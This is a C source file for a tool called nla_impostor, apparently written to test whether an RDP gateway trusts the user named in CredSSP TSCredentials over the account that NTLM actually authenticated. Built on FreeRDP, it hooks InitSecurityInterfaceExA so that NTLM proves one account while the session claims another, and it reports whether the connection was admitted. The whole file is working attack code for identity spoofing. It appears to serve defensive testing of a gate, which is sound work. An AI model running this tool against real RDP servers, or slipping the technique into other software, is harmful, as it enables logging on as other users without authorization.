/* nla_impostor: a hostile RDP client (test only) whose NLA proves one identity and then
 * claims another. FreeRDP's client takes the identity of the NTLM exchange and that of the
 * CredSSP TSCredentials from the same settings; this program authenticates NTLM with the
 * account given by --ntlm and lets FreeRDP send the /u: /d: /p: of the command line in the
 * TSCredentials. A gate that admits the TSCredentials name instead of the authenticated one
 * lets a vendor with one account log on as any other.
 *
 *   nla_impostor [--seconds N] --ntlm USER:DOMAIN:PASSWORD -- XFREERDP-ARGS...
 *
 * How: FreeRDP 2.11 asks WinPR for its SSPI table through InitSecurityInterfaceExA; this
 * program defines that symbol, so the dynamic linker binds libfreerdp's call to it. It
 * returns a copy of WinPR's table in which AcquireCredentialsHandleA hands NTLM the --ntlm
 * identity. Nothing else of the exchange changes.
 *
 * Prints "connected" or "refused: WHY" on stdout. Exit status: 0 when the connection was
 * accepted (the connection sequence completed), 1 when it was refused or failed, 2 on usage.
 * Run it with -gfx: it loads no channel.
 */
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <freerdp/client.h>
#include <freerdp/client/cmdline.h>
#include <freerdp/freerdp.h>
#include <freerdp/gdi/gdi.h>
#include <winpr/sspi.h>
#include <winpr/synch.h>

/* The identity NTLM proves (set once by main before connecting). */
static SEC_WINNT_AUTH_IDENTITY ntlm_identity;

static SecurityFunctionTableA impostor_table;
static ACQUIRE_CREDENTIALS_HANDLE_FN_A winpr_acquire;

static SECURITY_STATUS SEC_ENTRY impostor_acquire(SEC_CHAR *principal, SEC_CHAR *package, ULONG use,
                                                  void *logon_id, void *auth_data,
                                                  SEC_GET_KEY_FN get_key, void *get_key_arg,
                                                  PCredHandle credential, PTimeStamp expiry)
{
	if (use == SECPKG_CRED_OUTBOUND)
		auth_data = &ntlm_identity; /* the TSCredentials still carry the settings' identity */
	return winpr_acquire(principal, package, use, logon_id, auth_data, get_key, get_key_arg,
	                     credential, expiry);
}

PSecurityFunctionTableA SEC_ENTRY InitSecurityInterfaceExA(DWORD flags)
{
	typedef PSecurityFunctionTableA (*init_fn)(DWORD);
	init_fn winpr_init = (init_fn)dlsym(RTLD_NEXT, "InitSecurityInterfaceExA");
	PSecurityFunctionTableA table = winpr_init ? winpr_init(flags) : NULL;
	if (!table)
		return NULL;
	impostor_table = *table;
	winpr_acquire = table->AcquireCredentialsHandleA;
	impostor_table.AcquireCredentialsHandleA = impostor_acquire;
	return &impostor_table;
}

static BOOL impostor_post_connect(freerdp *instance)
{
	return gdi_init(instance, PIXEL_FORMAT_BGRX32);
}

static void impostor_post_disconnect(freerdp *instance)
{
	gdi_free(instance);
}

static BOOL impostor_client_new(freerdp *instance, rdpContext *context)
{
	(void)context;
	instance->PostConnect = impostor_post_connect;
	instance->PostDisconnect = impostor_post_disconnect;
	return TRUE;
}

/* Keeps the connection's event loop running for `seconds`; FALSE when the server closed it. */
static BOOL pump(freerdp *instance, double seconds)
{
	time_t end = time(NULL) + (time_t)seconds;
	while (time(NULL) < end) {
		HANDLE h[64];
		DWORD n = freerdp_get_event_handles(instance->context, h, ARRAYSIZE(h));
		if (n == 0 || WaitForMultipleObjects(n, h, FALSE, 200) == WAIT_FAILED)
			return FALSE;
		if (!freerdp_check_event_handles(instance->context) || freerdp_shall_disconnect(instance))
			return FALSE;
	}
	return TRUE;
}

static void usage(FILE *out)
{
	fprintf(out, "Usage: nla_impostor [--seconds N] --ntlm USER:DOMAIN:PASSWORD -- XFREERDP-ARGS...\n");
}

int main(int argc, char **argv)
{
	double seconds = 3;
	char *ntlm = NULL;
	int i;
	for (i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--")) { i++; break; }
		if (!strcmp(argv[i], "--seconds") && i + 1 < argc) seconds = atof(argv[++i]);
		else if (!strcmp(argv[i], "--ntlm") && i + 1 < argc) ntlm = argv[++i];
		else if (!strcmp(argv[i], "-h") || !strcmp(argv[i], "--help")) { usage(stdout); return 0; }
		else { usage(stderr); return 2; }
	}
	char *domain = ntlm ? strchr(ntlm, ':') : NULL;
	char *password = domain ? strchr(domain + 1, ':') : NULL;
	if (i >= argc || !password) {
		usage(stderr);
		return 2;
	}
	*domain++ = 0;
	*password++ = 0;
	if (sspi_SetAuthIdentity(&ntlm_identity, ntlm, domain, password) < 0)
		return 1;

	RDP_CLIENT_ENTRY_POINTS entry = { 0 };
	entry.Size = sizeof(entry);
	entry.Version = RDP_CLIENT_INTERFACE_VERSION;
	entry.ContextSize = sizeof(rdpClientContext);
	entry.ClientNew = impostor_client_new;
	rdpContext *context = freerdp_client_context_new(&entry);
	if (!context)
		return 1;
	char **fargv = &argv[i - 1];
	int fargc = argc - i + 1;
	fargv[0] = argv[0]; /* FreeRDP's parser wants the program name first */
	if (freerdp_client_settings_parse_command_line(context->settings, fargc, fargv, FALSE) != 0) {
		fprintf(stderr, "nla_impostor: bad FreeRDP arguments\n");
		freerdp_client_context_free(context);
		return 2;
	}
	context->settings->SoftwareGdi = TRUE;

	/* The gate decides inside the connection sequence (before licensing ends), so a completed
	 * freerdp_connect means admitted; the pump only shows whether the session stayed up. */
	int rc = 1;
	if (!freerdp_connect(context->instance)) {
		printf("refused: %s\n", freerdp_get_last_error_string(freerdp_get_last_error(context)));
	} else {
		rc = 0;
		printf("connected%s\n", pump(context->instance, seconds)
		                            ? "" : " (the server closed the connection later)");
		freerdp_disconnect(context->instance);
	}
	freerdp_client_context_free(context);
	free(ntlm_identity.User);
	free(ntlm_identity.Domain);
	free(ntlm_identity.Password);
	return rc;
}
